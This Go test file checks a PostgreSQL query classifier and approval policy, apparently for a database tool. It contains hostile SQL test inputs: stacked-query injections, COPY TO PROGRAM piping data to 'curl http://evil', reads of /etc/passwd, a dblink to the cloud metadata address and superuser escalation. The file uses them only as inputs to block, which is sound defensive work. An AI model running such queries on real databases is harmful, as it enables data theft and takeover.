package sqltool

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestClassify(t *testing.T) {
	cases := []struct {
		name   string
		query  string
		level  Level
		writes bool
	}{
		// Plain reads.
		{"select", "SELECT 1", Allow, false},
		{"select trailing semicolon", "SELECT 1;", Allow, false},
		{"select trailing semicolons and comment", "SELECT 1; ; -- done\n", Allow, false},
		{"select lower case", "select * from items where id = $1", Allow, false},
		{"parenthesised select", "(SELECT 1) UNION (SELECT 2)", Allow, false},
		{"with select", "WITH x AS (SELECT 1 AS a) SELECT a FROM x", Allow, false},
		{"values", "VALUES (1), (2)", Allow, false},
		{"table", "TABLE items", Allow, false},
		{"show", "SHOW search_path", Allow, false},
		{"explain", "EXPLAIN SELECT * FROM items", Allow, false},
		{"explain of a write is not run", "EXPLAIN DELETE FROM items", Allow, false},
		{"explain options without analyze", "EXPLAIN (COSTS OFF, VERBOSE) UPDATE items SET name = 'x'", Allow, false},
		{"explain analyze off", "EXPLAIN (ANALYZE false) DELETE FROM items", Allow, false},
		{"explain analyze select", "EXPLAIN ANALYZE SELECT 1", Allow, false},
		{"keyword in a string", "SELECT 'DROP TABLE items; DELETE FROM x'", Allow, false},
		{"semicolon in a string", "SELECT ';' AS s", Allow, false},
		{"semicolon in an E string", `SELECT E'\'; DROP TABLE items; --'`, Allow, false},
		{"semicolon in a dollar quote", "SELECT $$; DROP TABLE items;$$", Allow, false},
		{"semicolon in a tagged dollar quote", "SELECT $q$ $$; DELETE FROM t; $$ $q$", Allow, false},
		{"semicolon in a quoted identifier", `SELECT 1 AS "a;DROP TABLE items"`, Allow, false},
		{"semicolon in a line comment", "SELECT 1 -- ; DROP TABLE items", Allow, false},
		{"semicolon in a nested comment", "SELECT 1 /* a /* b; */ DROP TABLE items; */", Allow, false},
		{"function named like a keyword in a string", "SELECT 'pg_sleep(10)'", Allow, false},
		{"column named update quoted", `SELECT "update" FROM t`, Allow, false},
		{"parameter not a dollar quote", "SELECT $1, $2", Allow, false},
		{"current_setting is a read", "SELECT current_setting('search_path')", Allow, false},

		// Multi-statements and malformed input: refused.
		{"two statements", "SELECT 1; SELECT 2", Refuse, true},
		{"injection after a select", "SELECT * FROM items; DROP TABLE items", Refuse, true},
		{"standard string ends before the semicolon", `SELECT 'a\'; DROP TABLE items; --'`, Refuse, true},
		{"after a closed nested comment", "SELECT 1 /* a /* b */ */; DELETE FROM items", Refuse, true},
		{"after a comment", "SELECT 1 /* x */; DELETE FROM items", Refuse, true},
		{"after dollar quote", "SELECT $$x$$; DELETE FROM items", Refuse, true},
		{"identifier with dollar is not a quote", "SELECT a$b$ FROM t; DELETE FROM items", Refuse, true},
		{"unterminated string", "SELECT 'abc", Refuse, true},
		{"unterminated comment", "SELECT 1 /* /* */", Refuse, true},
		{"unterminated dollar quote", "SELECT $a$ x $b$", Refuse, true},
		{"empty", "", Refuse, true},
		{"only comments", "-- nothing\n/* here */ ;", Refuse, true},

		// DML.
		{"insert", "INSERT INTO items (id) VALUES (1)", Approve, true},
		{"update with where", "UPDATE items SET name = 'x' WHERE id = 1", Approve, true},
		{"update without where", "UPDATE items SET name = 'x'", Approve, true},
		{"update where only in a subquery", "UPDATE items SET name = (SELECT 'x' WHERE true)", Approve, true},
		{"delete without where", "DELETE FROM items", Approve, true},
		{"merge", "MERGE INTO items USING src ON true WHEN MATCHED THEN DELETE", Approve, true},
		{"data-modifying with", "WITH d AS (DELETE FROM items RETURNING *) SELECT * FROM d", Approve, true},
		{"select into", "SELECT * INTO new_items FROM items", Approve, true},
		{"select for update", "SELECT * FROM items FOR UPDATE", Approve, true},
		{"select for no key update", "SELECT * FROM items FOR NO KEY UPDATE", Approve, true},
		{"select for share", "SELECT * FROM items FOR SHARE", Approve, true},
		{"explain analyze of a delete", "EXPLAIN ANALYZE DELETE FROM items", Approve, true},
		{"explain analyze option of an update", "EXPLAIN (ANALYZE, BUFFERS) UPDATE items SET id = 1 WHERE false", Approve, true},
		{"copy from stdin", "COPY items FROM STDIN", Approve, true},
		{"copy to stdout", "COPY items TO STDOUT", Approve, true},

		// DDL and others needing approval.
		{"create table", "CREATE TABLE x (id int)", Approve, true},
		{"alter table", "ALTER TABLE items ADD COLUMN y int", Approve, true},
		{"drop table", "DROP TABLE items", Approve, true},
		{"truncate", "TRUNCATE items", Approve, true},
		{"grant", "GRANT SELECT ON items TO public", Approve, true},
		{"revoke", "REVOKE ALL ON items FROM public", Approve, true},
		{"comment", "COMMENT ON TABLE items IS 'x'", Approve, true},
		{"vacuum", "VACUUM items", Approve, true},
		{"refresh", "REFRESH MATERIALIZED VIEW v", Approve, true},
		{"do block", "DO $$BEGIN PERFORM 1; END$$", Approve, true},
		{"call", "CALL proc()", Approve, true},
		{"set", "SET search_path = evil", Approve, false},
		{"set role", "SET ROLE postgres", Approve, false},
		{"set session authorization", "SET SESSION AUTHORIZATION postgres", Approve, false},
		{"reset", "RESET ALL", Approve, false},
		{"begin", "BEGIN", Approve, false},
		{"commit", "COMMIT", Approve, false},
		{"lock", "LOCK TABLE items", Approve, true},
		{"notify", "NOTIFY ch", Approve, false},
		{"prepare", "PREPARE p AS DELETE FROM items", Approve, true},
		{"unknown statement", "FROBNICATE items", Approve, true},
		{"pg_sleep", "SELECT pg_sleep(1)", Approve, false},
		{"pg_sleep qualified", "SELECT pg_catalog.pg_sleep(1)", Approve, false},
		{"pg_sleep quoted", `SELECT "pg_sleep"(1)`, Approve, false},
		{"pg_sleep with a comment before the paren", "SELECT pg_sleep /* x */ (1)", Approve, false},
		{"set_config", "SELECT set_config('role', 'postgres', false)", Approve, false},
		{"nextval", "SELECT nextval('s')", Approve, true},
		{"advisory lock", "SELECT pg_advisory_lock(1)", Approve, false},
		{"lo_create", "SELECT lo_create(0)", Approve, true},
		{"query_to_xml runs text", "SELECT query_to_xml('DELETE FROM items RETURNING 1', true, false, '')", Approve, false},
		{"side effect in a where", "SELECT * FROM items WHERE pg_sleep(1) IS NULL", Approve, false},

		{"unknown function", "SELECT my_report(1)", Approve, false},
		{"built-in name in another schema", "SELECT public.lower('a')", Approve, false},
		{"unreserved keyword as a function name", "SELECT filter(1), over(2)", Approve, false},
		{"set as a function name in a read", "SELECT set(1)", Approve, false},
		{"alias column list", "SELECT * FROM generate_series(1, 2) AS g(i)", Allow, false},
		{"CTE column list", "WITH x(a, b) AS (SELECT 1, 2) SELECT * FROM x", Allow, false},
		{"call after OPERATOR()", "SELECT 1 OPERATOR(pg_catalog.+) my_func(1)", Approve, false},
		{"U& call", `SELECT U&"pg\005fsleep"(1)`, Approve, false},
		{"U& with UESCAPE", `SELECT U&"pg!005fterminate!005fbackend" UESCAPE '!' (1)`, Refuse, true},
		{"bad UESCAPE", `SELECT U&"x" UESCAPE 'ab'`, Refuse, true},
		{"UESCAPE without a string", `SELECT U&"x" UESCAPE`, Refuse, true},

		// Always refused.
		{"drop database", "DROP DATABASE prod", Refuse, true},
		{"drop role", "DROP ROLE app", Refuse, true},
		{"create role", "CREATE ROLE x SUPERUSER", Refuse, true},
		{"alter user", "ALTER USER app WITH SUPERUSER", Refuse, true},
		{"alter system", "ALTER SYSTEM SET fsync = off", Refuse, true},
		{"load", "LOAD 'plpython3u'", Refuse, true},
		{"copy program", "COPY items TO PROGRAM 'curl http://evil'", Refuse, true},
		{"copy from program", "COPY items FROM PROGRAM 'id'", Refuse, true},
		{"copy to a server file", "COPY items TO '/tmp/x'", Refuse, true},
		{"pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Refuse, true},
		{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", Refuse, true},
		{"pg_ls_dir", "SELECT * FROM pg_ls_dir('/')", Refuse, true},
		{"lo_import", "SELECT lo_import('/etc/passwd')", Refuse, true},
		{"dblink", "SELECT * FROM dblink('host=169.254.169.254', 'select 1') AS t(a int)", Refuse, true},
		{"dblink_exec", "SELECT dblink_exec('dbname=x', 'DROP TABLE y')", Refuse, true},
		{"refused function inside a write", "UPDATE items SET name = pg_read_file('/etc/passwd') WHERE id = 1", Refuse, true},
		{"explain analyze of a refused call", "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", Refuse, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := Classify(tc.query)
			if v.Level != tc.level || v.Writes != tc.writes {
				t.Errorf("Classify(%q) = %v writes=%v (%s), want %v writes=%v", tc.query, v.Level, v.Writes, v.Reason, tc.level, tc.writes)
			}
			if v.Level != Allow && v.Reason == "" {
				t.Errorf("Classify(%q): no reason", tc.query)
			}
		})
	}
}

func TestClassifyReasons(t *testing.T) {
	cases := []struct{ query, want string }{
		{"UPDATE items SET name = 'x'", "without WHERE"},
		{"DELETE FROM items", "without WHERE"},
		{"SELECT 1; SELECT 2", "more than one statement"},
		{"COPY t TO PROGRAM 'x'", "shell command"},
		{"SELECT pg_sleep(1)", "pg_sleep() sleeps"},
	}
	for _, tc := range cases {
		t.Run(tc.query, func(t *testing.T) {
			if got := Classify(tc.query).Reason; !strings.Contains(got, tc.want) {
				t.Errorf("reason %q, want it to mention %q", got, tc.want)
			}
		})
	}
}

func TestAssessPolicy(t *testing.T) {
	args := func(q string) json.RawMessage {
		b, _ := json.Marshal(Args{Query: q})
		return b
	}
	cases := []struct {
		name          string
		policy        Policy
		readOnly      bool
		query         string
		deny, approve bool
	}{
		{"read allowed", PolicyApprove, true, "SELECT 1", false, false},
		{"write approval", PolicyApprove, false, "DELETE FROM t WHERE id = 1", false, true},
		{"write refused by policy", PolicyRefuse, false, "DELETE FROM t WHERE id = 1", true, false},
		{"write refused on a read-only tool", PolicyApprove, true, "DELETE FROM t WHERE id = 1", true, false},
		{"non-writing approval on a read-only tool", PolicyApprove, true, "SELECT pg_sleep(1)", false, true},
		{"refused whatever the policy", PolicyApprove, false, "DROP DATABASE x", true, false},
		{"multi-statement refused", PolicyApprove, false, "SELECT 1; SELECT 2", true, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := AssessWith(tc.policy, tc.readOnly)(args(tc.query))
			if a.Deny != tc.deny || a.NeedsApproval != tc.approve {
				t.Errorf("got deny=%v approve=%v (%s), want deny=%v approve=%v", a.Deny, a.NeedsApproval, a.Reason, tc.deny, tc.approve)
			}
		})
	}
	t.Run("package Assess is approve, writable", func(t *testing.T) {
		if a := Assess(args("UPDATE t SET a = 1")); !a.NeedsApproval || a.Deny {
			t.Errorf("got %+v, want NeedsApproval", a)
		}
	})
	t.Run("bad arguments denied", func(t *testing.T) {
		if a := Assess(json.RawMessage(`{"query":1}`)); !a.Deny {
			t.Errorf("got %+v, want Deny", a)
		}
	})
}

func TestLexRoundTrip(t *testing.T) {
	for _, q := range []string{
		"SELECT E'\\'' || 'a''b' || $t$x$t$ /* /* */ */ -- c\n;",
		`SELECT U&"d\0061t" FROM x WHERE y = U&'\0041' AND b = B'101'`,
	} {
		var b strings.Builder
		for _, tk := range lex(q) {
			b.WriteString(tk.text)
		}
		if b.String() != q {
			t.Errorf("lex(%q) round trip = %q", q, b.String())
		}
	}
}

// BenchmarkClassify measures the classifier on a typical read and on a
// query full of the forms it decodes (U&, UESCAPE, dollar quotes,
// comments, qualified calls).
func BenchmarkClassify(b *testing.B) {
	for _, q := range []struct{ name, sql string }{
		{"typical", "SELECT id, name, lower(name), count(*) OVER () FROM items WHERE price > $1 AND created >= now() - interval '7 days' ORDER BY id LIMIT 50"},
		{"tricky", `WITH x(a) AS (SELECT U&"d!0061ta" UESCAPE '!' FROM t /* a /* b */ */) SELECT pg_catalog.upper($q$ ' ; $q$), E'\'', "Col""x" FROM x, generate_series(1, 3) g(i) -- end`},
	} {
		b.Run(q.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Classify(q.sql)
			}
		})
	}
}
